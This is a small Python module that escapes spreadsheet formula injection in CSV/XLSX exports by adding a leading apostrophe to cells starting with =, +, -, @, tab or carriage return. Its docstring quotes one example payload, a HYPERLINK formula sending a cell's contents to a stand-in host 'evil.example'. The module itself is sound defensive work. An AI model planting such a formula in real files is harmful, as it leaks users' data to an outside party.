"""Text cells that a spreadsheet will not run: CSV and XLSX exports pass every text through.

A cell that begins with ``= + - @`` (or a tab or carriage return, which some spreadsheets
skip before reading a formula) is read as a formula by Excel, LibreOffice and Google Sheets:
``=HYPERLINK("https://evil.example/?"&A2, "click")`` in a volunteer's contact would run on
the organizer's machine. Such a cell gets a leading apostrophe, the OWASP advice, which
spreadsheets show as text and do not evaluate. Numbers are left alone (-3 is a number).
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(text: str) -> str:
    """``text``, with a leading apostrophe where a spreadsheet would read a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text
